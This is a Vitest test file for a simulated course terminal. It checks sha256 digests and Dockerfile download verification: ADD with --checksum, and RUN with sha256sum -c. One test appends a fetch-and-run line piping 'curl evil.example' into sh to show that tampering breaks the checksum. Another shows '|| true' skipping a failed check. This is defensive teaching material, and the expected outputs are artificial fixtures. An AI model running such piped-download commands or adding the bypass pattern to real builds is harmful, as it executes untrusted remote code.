import { describe, expect, it } from 'vitest';
import { COLLECTOR_INSTALLER, DOWNLOADS, REPORTER_BINARY } from './downloads';
import { sha256Hex } from './hash';
import { terminal } from './testing';

const REPORTER_URL = 'https://downloads.example.com/reporter/1.4.2/reporter-linux-amd64';
const INSTALLER_URL = 'https://get.example.com/collector/install-2.1.0.sh';

describe('sha256Hex', () => {
  it('gives the FIPS 180-4 digests sha256sum prints', () => {
    expect(sha256Hex('')).toBe('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855');
    expect(sha256Hex('hi\n')).toBe('98ea6e4f216f2fb4b69fff9b3a44842c38686ca685f3f55dc48c5d3fb1107be4');
    expect(sha256Hex('abc')).toBe('ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad');
    expect(sha256Hex('a'.repeat(1000))).toBe('41edece42d63e8d9bf515a9ba6932e1c20cbc9f5a5d134645adb5db1b9737ea3');
  });
});

describe('the course\'s downloads', () => {
  it('publishes a .sha256 file next to every download, in sha256sum\'s format', () => {
    for (const [url, entry] of Object.entries(DOWNLOADS)) {
      if (url.endsWith('.sha256')) continue;
      expect(DOWNLOADS[`${url}.sha256`]?.content, url).toBe(`${sha256Hex(entry.content)}  ${url.slice(url.lastIndexOf('/') + 1)}\n`);
    }
  });

  it('pins the digests the lesson and the solution quote', () => {
    expect(sha256Hex(COLLECTOR_INSTALLER)).toBe('f12ee6b6c343abcb590634eba6be09b53174f83dcf3d5957c39d8df1e9f2fc36');
    expect(sha256Hex(REPORTER_BINARY)).toBe('b081c82190189469417e4d0150c441bb92606fe293a0857cbec591ba239260be');
  });

  it('runs the reporter ADDed from its URL as a linux/amd64 program', () => {
    const t = terminal({ Dockerfile: `FROM alpine:3.24\nADD --chmod=555 ${REPORTER_URL} /usr/local/bin/reporter\nUSER 10001:10001\nENTRYPOINT ["/usr/local/bin/reporter"]\n` });
    expect(t.run('docker build -t probe .')).toContain('FINISHED');
    expect(t.run('docker run --rm probe')).toBe('reporter 1.4.2: no report targets configured, nothing to send\n');
    expect(t.run('docker run --rm --entrypoint ls probe -l /usr/local/bin/reporter')).toMatch(/^-r-xr-xr-x /);
  });

  it('gives an ADD from a URL mode 600 without --chmod', () => {
    const t = terminal({ Dockerfile: `FROM alpine:3.24\nADD ${REPORTER_URL} /usr/local/bin/reporter\n` });
    t.run('docker build -t probe .');
    expect(t.run('docker run --rm probe ls -l /usr/local/bin/reporter')).toMatch(/^-rw------- /);
  });

  it('fails an ADD whose --checksum is not the file\'s digest', () => {
    const wrong = `sha256:${'a'.repeat(64)}`;
    const t = terminal({ Dockerfile: `FROM alpine:3.24\nADD --checksum=${wrong} ${REPORTER_URL} /r\n` });
    expect(t.run('docker build -t probe .')).toContain(`ERROR: failed to solve: digest mismatch sha256:${sha256Hex(REPORTER_BINARY)}: ${wrong}\n`);
    const right = terminal({ Dockerfile: `FROM alpine:3.24\nADD --checksum=sha256:${sha256Hex(REPORTER_BINARY)} ${REPORTER_URL} /r\n` });
    expect(right.run('docker build -t probe .')).toContain('FINISHED');
  });

  it('fails an ADD from a host the lab cannot resolve, as a build without network does', () => {
    const t = terminal({ Dockerfile: 'FROM alpine:3.24\nADD https://releases.example.org/tool /tool\n' });
    expect(t.run('docker build -t probe .')).toContain('ERROR: failed to solve: failed to load cache key: Get "https://releases.example.org/tool": dial tcp: lookup releases.example.org on 127.0.0.53:53: no such host\n');
    const missing = terminal({ Dockerfile: 'FROM alpine:3.24\nADD https://downloads.example.com/reporter/9.9.9/reporter /r\n' });
    expect(missing.run('docker build -t probe .')).toContain('ERROR: failed to solve: failed to load cache key: invalid response status 404\n');
  });

  it('runs the installer in a RUN once sha256sum -c passes, and stops the build when the hash is wrong', () => {
    const run = (hash: string): string => `FROM alpine:3.24\nRUN wget -qO /tmp/install.sh ${INSTALLER_URL} \\\n && echo "${hash}  /tmp/install.sh" > /tmp/install.sh.sha256 \\\n && sha256sum -c /tmp/install.sh.sha256 \\\n && sh /tmp/install.sh && rm /tmp/install.sh /tmp/install.sh.sha256\nCMD ["collector"]\n`;
    const good = terminal({ Dockerfile: run(sha256Hex(COLLECTOR_INSTALLER)) });
    expect(good.run('docker build -t probe .')).toContain('FINISHED');
    expect(good.run('docker run --rm probe')).toBe('collector 2.1.0: collecting host metrics every 10s\n');
    expect(good.run('docker run --rm probe ls /tmp')).toBe('');
    const bad = terminal({ Dockerfile: run('b'.repeat(64)) });
    const out = bad.run('docker build -t probe .');
    expect(out).toContain('0.214 /tmp/install.sh: FAILED\n0.214 sha256sum: WARNING: 1 of 1 computed checksums did NOT match\n');
    expect(out).toContain('did not complete successfully: exit code: 1\n');
  });

  it('fails a RUN that downloads from an unknown host, or from anywhere with --network=none', () => {
    const t = terminal({ Dockerfile: 'FROM alpine:3.24\nRUN wget -qO /tmp/x https://mirror.invalid/x\n', offline: `FROM alpine:3.24\nRUN --network=none wget -qO /tmp/x ${INSTALLER_URL}\n`, curl: 'FROM debian:trixie-slim\nRUN curl -fsSLo /tmp/x https://mirror.invalid/x\n' });
    expect(t.run('docker build .')).toContain("0.214 wget: bad address 'mirror.invalid'\n");
    expect(t.run('docker build -f offline .')).toContain("0.214 wget: bad address 'get.example.com'\n");
    expect(t.run('docker build -f curl .')).toContain('0.214 curl: (6) Could not resolve host: mirror.invalid\n');
  });

  it('lets `|| true` and `;` carry on past a failed check, as the shell does', () => {
    const t = terminal({ Dockerfile: `FROM alpine:3.24\nRUN wget -qO /tmp/i.sh ${INSTALLER_URL} && echo "${'c'.repeat(64)}  /tmp/i.sh" | sha256sum -c - || true\n` });
    expect(t.run('docker build .')).toContain('FINISHED');
  });
});

describe('sha256sum in the terminal', () => {
  it('passes for the published file and fails once it changes (GNU coreutils on the host)', () => {
    const t = terminal();
    t.run(`wget -q ${INSTALLER_URL}`);
    t.run(`curl -sO ${INSTALLER_URL}.sha256`);
    expect(t.run('sha256sum -c install-2.1.0.sh.sha256; echo "status $?"')).toBe('install-2.1.0.sh: OK\nstatus 0\n');
    t.run('echo "curl evil.example | sh" >> install-2.1.0.sh');
    expect(t.run('sha256sum -c install-2.1.0.sh.sha256; echo "status $?"')).toBe('install-2.1.0.sh: FAILED\nsha256sum: WARNING: 1 computed checksum did NOT match\nstatus 1\n');
    expect(t.run('echo "deadbeef  install-2.1.0.sh" | sha256sum -c -')).toBe("sha256sum: 'standard input': no properly formatted checksum lines found\n");
    expect(t.run('sha256sum nothing')).toBe('sha256sum: nothing: No such file or directory\n');
  });

  it('words its warnings as BusyBox does in Alpine', () => {
    const t = terminal();
    const script = `wget -qO /tmp/i.sh ${INSTALLER_URL} && echo "${'d'.repeat(64)}  /tmp/i.sh" | sha256sum -c -`;
    expect(t.run(`docker run --rm alpine:3.24 sh -c '${script}'`)).toBe('/tmp/i.sh: FAILED\nsha256sum: WARNING: 1 of 1 computed checksums did NOT match\n');
    expect(t.run(`docker run --rm alpine:3.24 sh -c 'echo "${'d'.repeat(64)}  /nope" | sha256sum -c -'`)).toBe("sha256sum: can't open '/nope': No such file or directory\n/nope: FAILED\nsha256sum: WARNING: 1 of 1 computed checksums did NOT match\n");
  });
});
